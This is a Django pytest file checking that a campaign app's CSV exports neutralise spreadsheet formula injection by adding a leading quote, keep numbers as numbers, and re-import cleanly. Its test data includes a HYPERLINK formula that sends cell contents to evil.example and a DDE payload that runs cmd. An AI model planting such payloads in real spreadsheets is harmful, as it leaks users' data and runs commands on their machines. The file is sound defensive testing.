"""Formulas in CSV exports (issue 23, second round): a cell a spreadsheet would read as a formula
is written with a leading ``'`` (OWASP, CSV injection) in every CSV the app writes, numbers stay
numbers, and a random table's CSV imports again to the rows it was exported from."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from config.csv_cells import neutral, restored
from rolls.models import RandomTable
from tests.web import test_random_tables
from tests.web.live import roll
from tests.web.test_session_log import export

#: The random tables' own table (a FastTest campaign with a caster and a running session).
pytestmark = test_random_tables.TABLE

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CALC = "=cmd|' /C calc'!A0"


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


# --- The helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(1+1)", "\tx", "\rx", CALC])
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "-2.5", "17", -3, 4.5, "", "a gust of wind", "'quoted"])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert neutral(value) == value


def test_a_cell_already_starting_with_a_quote_and_a_formula_gets_one_more_to_come_back_whole():
    assert neutral("'=x") == "''=x"
    assert restored(neutral("'=x")) == "'=x"


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "-3", "'plain", "@x", "''@x"])
def test_reading_back_undoes_exactly_what_writing_did(text):
    assert restored(neutral(text)) == text


def test_no_csv_is_written_but_through_the_helper():
    base = Path(settings.BASE_DIR)
    writers = [
        str(path.relative_to(base))
        for app in ("campaigns", "sheets", "rolls", "config")
        for path in (base / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["config/csv_cells.py"]


# --- The exports --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_character_named_as_a_formula_is_quoted_in_the_session_log_csv(client, table, gm):
    hero = table.hero
    hero.name = HYPERLINK
    hero.save()
    roll(table.session, table.players[0], character=hero)
    client.force_login(gm)
    rows = cells(export(client, table.campaign, table.session, "csv"))
    assert rows[1][4] == "'" + HYPERLINK


@pytest.mark.django_db
def test_the_session_log_csv_writes_its_seq_as_a_number(client, table, gm):
    roll(table.session, table.players[0])
    client.force_login(gm)
    assert cells(export(client, table.campaign, table.session, "csv"))[1][0] == "1"


def _formula_table(campaign) -> RandomTable:
    return RandomTable.objects.create(
        campaign=campaign,
        name="Tricks",
        dice="1d6",
        rows=[[1, 2, CALC], [3, 4, "@SUM(1+1)"], [5, 5, "'=kept"], [6, 6, "-a dash"]],
    )


@pytest.mark.django_db
def test_a_random_tables_csv_quotes_its_formula_texts(client, table, gm):
    saved = _formula_table(table.campaign)
    client.force_login(gm)
    rows = cells(client.get(reverse("random_table_csv", args=[table.campaign.pk, saved.pk])))
    assert [row[2] for row in rows[1:]] == ["'" + CALC, "'@SUM(1+1)", "''=kept", "'-a dash"]
    assert [row[:2] for row in rows[1:3]] == [["1", "2"], ["3", "4"]]


@pytest.mark.django_db
def test_a_random_tables_csv_with_formula_texts_imports_again_to_the_same_rows(client, table, gm):
    campaign = table.campaign
    saved = _formula_table(campaign)
    client.force_login(gm)
    exported = client.get(reverse("random_table_csv", args=[campaign.pk, saved.pk])).content
    upload = SimpleUploadedFile("t.csv", exported)
    url = reverse("random_table_import", args=[campaign.pk])
    client.post(url, {"file": upload, "name": "Tricks again", "dice": "1d6"})
    assert RandomTable.objects.get(name="Tricks again").rows == saved.rows
